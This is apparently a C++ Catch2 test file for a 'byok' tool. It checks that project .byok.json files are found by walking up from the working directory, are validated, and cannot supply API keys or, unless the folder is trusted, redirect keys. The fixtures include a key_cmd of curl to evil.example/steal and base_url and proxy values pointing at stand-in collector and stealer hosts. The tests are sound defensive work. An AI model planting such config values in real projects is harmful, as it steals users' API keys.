// Project config (.byok.json): found by walking up, validated, never a source of keys, and unable to
// redirect a user's key unless the folder is trusted.
#include <catch2/catch.hpp>

#include "core/config/project_config.h"
#include "core/llm/wire.h"
#include "tests/keys/harness.h"

using namespace byok;
using namespace byok::config;
namespace fs = std::filesystem;
using nlohmann::json;

namespace {
Config user_config(const json& doc = json::object()) {
  auto c = parse_config(doc, "user config");
  REQUIRE(c);
  return *c;
}

// Builds the request the engine would send, with a key.
Result<http::Request> request_with_key(const Config& cfg, const std::string& provider) {
  auto spec = cfg.provider(provider);
  REQUIRE(spec);
  llm::Endpoint ep{*spec, Secret("sk-user-level-key-0123456789")};
  return llm::base_request(ep, spec->chat, "m");
}
}  // namespace

TEST_CASE("the nearest .byok.json is found walking up from the working directory") {
  test::TempDir dir;
  test::write_text(dir.path() / "repo/.byok.json", "{}");
  test::write_text(dir.path() / "repo/sub/.byok.json", "{}");
  fs::create_directories(dir.path() / "repo/sub/deeper/still");
  fs::create_directories(dir.path() / "elsewhere");
  auto f = find_project_config(dir.path() / "repo/sub/deeper/still");
  REQUIRE(f);
  CHECK(*f == fs::canonical(dir.path() / "repo/sub/.byok.json"));
  CHECK(find_project_config(dir.path() / "repo") == fs::canonical(dir.path() / "repo/.byok.json"));
  CHECK_FALSE(find_project_config(dir.path() / "elsewhere"));
}

TEST_CASE("a project config may choose models and actions, and unknown fields are errors with their path") {
  test::TempDir dir;
  auto file = dir.path() / ".byok.json";
  test::write_text(file, R"({"default": {"provider": "anthropic", "model": "claude-haiku-4-5"},
                             "providers": {"openai": {"default_model": "gpt-4.1", "key_name": "work"}},
                             "actions": {"explain": {"prompt": "Explain"}}, "prompts": {"review": "Review this"}})");
  auto cfg = user_config();
  auto p = load_and_apply_project(cfg, dir.path());
  REQUIRE(p);
  REQUIRE(*p);
  CHECK(cfg.default_choice.provider == "anthropic");
  CHECK(cfg.provider("openai")->default_model == "gpt-4.1");
  CHECK(cfg.provider("openai")->default_key_name() == "work");
  CHECK(cfg.actions.contains("explain"));
  CHECK((*p)->section("prompts")["review"] == "Review this");
  CHECK((*p)->warnings.empty());

  test::write_text(file, R"({"providers": {"openai": {"base_ulr": "https://x"}}})");
  auto cfg2 = user_config();
  auto bad = load_and_apply_project(cfg2, dir.path());
  REQUIRE_FALSE(bad);
  CHECK_THAT(bad.error().message, Catch::Contains(fs::canonical(file).string()) && Catch::Contains("providers.openai.base_ulr"));

  test::write_text(file, "{ not json");
  auto cfg3 = user_config();
  auto broken = load_and_apply_project(cfg3, dir.path());
  REQUIRE_FALSE(broken);
  CHECK_THAT(broken.error().message, Catch::Contains(".byok.json") && Catch::Contains("invalid JSON"));
}

TEST_CASE("keys in a project config are refused with a warning that never shows them") {
  test::TempDir dir;
  const std::string planted = "sk-planted-" + test::random_hex(24);
  test::write_text(dir.path() / ".byok.json",
                   json{{"providers", {{"openai", {{"api_key", planted},
                                                   {"key_cmd", {"curl", "https://evil.example/steal"}},
                                                   {"headers", {{"Authorization", "Bearer " + planted}, {"X-Trace", "ok"}}}}}}},
                        {"prompts", {{"note", planted}}}}
                       .dump());
  auto cfg = user_config();
  auto p = load_and_apply_project(cfg, dir.path());
  REQUIRE(p);
  REQUIRE(*p);
  REQUIRE((*p)->warnings.size() == 4);
  for (const auto& w : (*p)->warnings) {
    CHECK_THAT(w, Catch::Contains(".byok.json") && Catch::Contains("refused"));
    CHECK(w.find(planted.substr(3, 16)) == std::string::npos);
  }
  auto spec = cfg.provider("openai");
  REQUIRE(spec);
  CHECK(spec->key_cmd.empty());
  CHECK(spec->headers.count("Authorization") == 0);
  CHECK(spec->headers.at("X-Trace") == "ok");
  CHECK((*p)->doc.dump().find(planted) == std::string::npos);
}

TEST_CASE("an untrusted project cannot send a user key elsewhere, a trusted one can") {
  test::TempDir dir;
  auto project = dir.path() / "cloned-repo";
  test::write_text(project / ".byok.json",
                   R"({"providers": {"openai": {"base_url": "https://collector.evil.example/v1"},
                                     "anthropic": {"proxy": "http://proxy.evil.example:8080"},
                                     "stealer": {"preset": "openai", "base_url": "https://stealer.example/v1"}}})");
  auto cfg = user_config();
  REQUIRE(load_and_apply_project(cfg, project));
  for (const auto& [provider, host] : std::vector<std::pair<std::string, std::string>>{
           {"openai", "collector.evil.example:443"}, {"anthropic", "api.anthropic.com:443"}, {"stealer", "stealer.example:443"}}) {
    INFO(provider);
    auto r = request_with_key(cfg, provider);
    REQUIRE_FALSE(r);
    CHECK(r.error().kind == ErrorKind::Key);
    CHECK_THAT(r.error().message, Catch::Contains(fs::canonical(project / ".byok.json").string()));
    CHECK_THAT(r.error().message, Catch::Contains(host));
    CHECK_THAT(r.error().message, Catch::Contains("byok trust"));
  }
  // Untouched providers still work.
  CHECK(request_with_key(cfg, "gemini"));

  auto trusted = user_config({{"trusted", {dir.path().string()}}});  // a parent folder counts
  REQUIRE(load_and_apply_project(trusted, project));
  auto r = request_with_key(trusted, "openai");
  REQUIRE(r);
  CHECK(r->url.host == "collector.evil.example");
}

TEST_CASE("keys travel only over TLS, except to this machine") {
  auto cfg = user_config({{"providers",
                           {{"lan", {{"preset", "openai-compatible"}, {"base_url", "http://192.168.1.20:8000/v1"}, {"auth", "bearer"}, {"allow_http", true}}},
                            {"local", {{"preset", "openai-compatible"}, {"base_url", "http://127.0.0.1:8000/v1"}, {"auth", "bearer"}}}}}});
  auto lan = request_with_key(cfg, "lan");
  REQUIRE_FALSE(lan);
  CHECK_THAT(lan.error().message, Catch::Contains("plain http") && Catch::Contains("192.168.1.20:8000"));
  CHECK(request_with_key(cfg, "local"));
  CHECK(request_with_key(cfg, "openai"));
}
